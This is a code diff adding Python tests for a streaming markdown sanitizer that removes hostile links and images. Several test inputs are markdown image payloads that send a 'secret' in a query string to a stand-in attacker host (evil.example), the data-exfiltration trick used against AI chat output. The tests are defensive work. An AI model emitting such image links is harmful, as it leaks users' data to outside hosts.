@@ -182,3 +182,30 @@ def test_stream_errors() -> None:
 def test_hostile_markdown_streams_like_whole_text(text: str) -> None:
     chunks = [text[i : i + 7] for i in range(0, len(text), 7)]
     assert "".join(sanitize_stream(chunks, SANITIZER)) == SANITIZER.sanitize(text).text
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "hello [x](" * 3,
+        "Use the array syntax a[i](j) or see [docs](",
+        "![x](https://evil.example/?q=" + "secret) after",
+        "word " * 120 + "![x](https://evil.example/?q=\n" + "x " * 300 + "\n) tail\n",
+        "a" * 300 + "![x](https://evil.example/?q=" + "b" * 300 + "secret) tail",
+        ("see [docs](https://ok.example/a b " * 40 + "\n") * 3,
+    ],
+)
+def test_unterminated_destinations_stream_like_whole_text(text: str) -> None:
+    whole = SANITIZER.sanitize(text).text
+    assert "](https://evil" not in whole
+    for size in (1, 3, 7, 64):
+        chunks = [text[i : i + size] for i in range(0, len(text), size)]
+        assert "".join(sanitize_stream(chunks, SANITIZER)) == whole
+
+
+def test_stream_cut_mid_link_keeps_the_text() -> None:
+    chunks = ["The answer is in ", "[the docs](https://doc", "s.exa"]
+    assert "".join(sanitize_stream(chunks)) == "The answer is in [the docs](https://docs.exa"
+    chunks = ["Done ![x](https://evil.example/?q=", "secret) bye"]
+    out = "".join(sanitize_stream(chunks))
+    assert out == "Done [image removed] bye"
